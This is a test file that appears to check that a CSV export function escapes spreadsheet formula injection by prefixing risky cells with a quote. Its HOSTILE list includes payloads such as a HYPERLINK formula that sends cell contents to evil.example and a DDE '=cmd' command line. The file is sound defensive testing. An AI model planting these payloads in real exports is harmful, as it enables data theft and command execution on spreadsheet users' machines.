import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvFile } from './csv-file';

const HOSTILE = [
  '=HYPERLINK("https://evil.example?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-1+1',
  '-30.00=1',
  '-30.000',
  '--30.00',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\r\n=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '=1\nsecond line',
  `=${'1+'.repeat(50_000)}1`,
];

const HARMLESS = [
  '-30.00',
  'Robin "The Wall", Jr.; a=b',
  'one\ntwo\r\nthree',
  'a,b;c\td|e',
  'a\0b',
  '\uFEFFmark',
  '日本語 😀',
  "'quoted",
  'x'.repeat(100_000),
  '',
];

const cellsOf = (csv: string) => Papa.parse<string[]>(csv.slice(1)).data[1];

describe('CSV cell', () => {
  it.each(HOSTILE)('contains no formula in any position: %#', (value) => {
    const cells = cellsOf(csvFile([{ First: value, Middle: value, Last: value }]));
    expect(cells).toEqual([`'${value}`, `'${value}`, `'${value}`]);
  });

  it.each(HARMLESS)('stays unchanged and ends no cell: %#', (value) => {
    expect(cellsOf(csvFile([{ First: 'x', Middle: value, Last: 'y' }]))).toEqual(['x', value, 'y']);
  });

  it('keeps five thousand hostile rows apart', () => {
    const rows = Array.from({ length: 5000 }, (_, n) => ({
      Name: HOSTILE[n % 17] ?? '',
      Text: HARMLESS[n % 8] ?? '',
    }));
    expect(Papa.parse(csvFile(rows).slice(1)).data).toHaveLength(rows.length + 1);
  });
});
